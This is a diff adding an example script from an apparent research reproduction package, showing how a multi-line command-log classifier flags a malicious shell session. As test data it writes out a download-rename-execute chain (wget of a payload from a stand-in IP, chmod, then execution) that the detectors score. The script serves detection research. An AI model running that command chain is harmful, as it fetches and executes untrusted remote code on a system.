@@ -1,0 +1,81 @@
+#!/usr/bin/env python3
+"""Session hunting: catch multi-step attacks with multi-line classification.
+
+Section IV-C's motivating case: ``wget -c http://*/* -o python`` followed
+by ``python`` — each line alone looks unremarkable, together they are a
+download-rename-execute chain.  This example tunes both the single-line
+and the multi-line classifier and shows how the session context changes
+the verdict on exactly that chain.
+
+Run:  python examples/session_hunting.py
+"""
+
+from datetime import datetime, timedelta
+
+from repro import WorldConfig, build_world
+from repro.experiments.methods import training_subset
+from repro.loggen import CommandDataset, LogRecord
+from repro.tuning import ClassificationTuner, MultiLineClassificationTuner, MultiLineComposer
+
+CONFIG = WorldConfig(
+    train_lines=4_000,
+    test_lines=2_000,
+    vocab_size=800,
+    pretrain_epochs=2,
+    tuning_subsample=2_500,
+    top_vs=(10, 50),
+    seed=5,
+)
+
+
+def suspicious_session() -> CommandDataset:
+    """The paper's wget→python chain embedded in an ordinary session."""
+    start = datetime(2022, 5, 30, 3, 12, 0)
+    steps = [
+        "cd /tmp",
+        "wget -c http://203.0.113.66/payload -o python",
+        "chmod +x python",
+        "python",
+    ]
+    records = [
+        LogRecord(line, "u0042", "m000007", start + timedelta(seconds=40 * i), session="hunt")
+        for i, line in enumerate(steps)
+    ]
+    return CommandDataset(records)
+
+
+def main() -> None:
+    print("building world (~1 minute) ...")
+    world = build_world(CONFIG)
+    subset = training_subset(world, seed=0)
+
+    single = ClassificationTuner(world.encoder, lr=1e-2, epochs=5, pooling="mean", seed=0)
+    single.fit(subset.lines, subset.labels)
+
+    composer = MultiLineComposer(window=3)
+    multi = MultiLineClassificationTuner(
+        world.encoder, composer=composer, lr=1e-2, epochs=5, pooling="mean", seed=0
+    )
+    train_ordered = world.train.sorted_by_time()
+    multi.fit_dataset(train_ordered, world.ids.label(train_ordered.lines()))
+
+    session = suspicious_session()
+    single_scores = single.score(session.lines())
+    multi_scores = multi.score_dataset(session)
+    composed = composer.compose(session)
+
+    print("\nthe download-rename-execute chain, line by line:")
+    print(f"{'single':>8s} {'multi':>8s}   model input")
+    for record, s_single, s_multi, sample in zip(session, single_scores, multi_scores, composed):
+        print(f"{s_single:8.3f} {s_multi:8.3f}   {sample.text[:88]}")
+
+    final_single, final_multi = single_scores[-1], multi_scores[-1]
+    print("\nverdict on the final bare `python` execution:")
+    print(f"  single-line classifier: {final_single:.3f} (no context — looks like any python run)")
+    print(f"  multi-line classifier:  {final_multi:.3f} (sees the wget/chmod prelude)")
+    if final_multi > final_single:
+        print("  -> session context raised the alarm, as in Section IV-C")
+
+
+if __name__ == "__main__":
+    main()
